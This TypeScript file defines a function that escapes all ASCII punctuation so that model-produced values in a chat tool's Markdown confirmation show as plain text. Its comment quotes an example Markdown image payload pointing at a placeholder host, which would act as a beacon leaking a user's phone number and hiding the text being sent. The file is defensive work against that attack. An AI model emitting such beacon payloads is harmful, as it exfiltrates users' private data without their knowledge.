// Text that a Markdown renderer shows exactly as written. A chat tool's confirmation is Markdown,
// and an input comes from the model: an address such as `1 Main ![p](https://e.example/p.png?d=...)`
// would otherwise show a remote image (a beacon that reports the phone number to its server) and
// hide the text that will be sent. CommonMark lets every ASCII punctuation character be escaped with
// a backslash and then shows it as itself, so escaping them all leaves no image, link, autolink,
// emphasis, code, HTML, heading, list or entity to be read; letters, digits and spaces are as they
// are. VS Code's MarkdownString.appendText escapes fewer (not `.`, `:`, `/`, `<` or `&`), which
// leaves a URL to be turned into a link. Line breaks become spaces: each value is on one line.
const ASCII_PUNCTUATION = /[!-/:-@[-`{-~]/g;

export function markdownLiteral(text: string): string {
  return text.replace(/\r\n|\r|\n/g, ' ').replace(ASCII_PUNCTUATION, '\\$&');
}
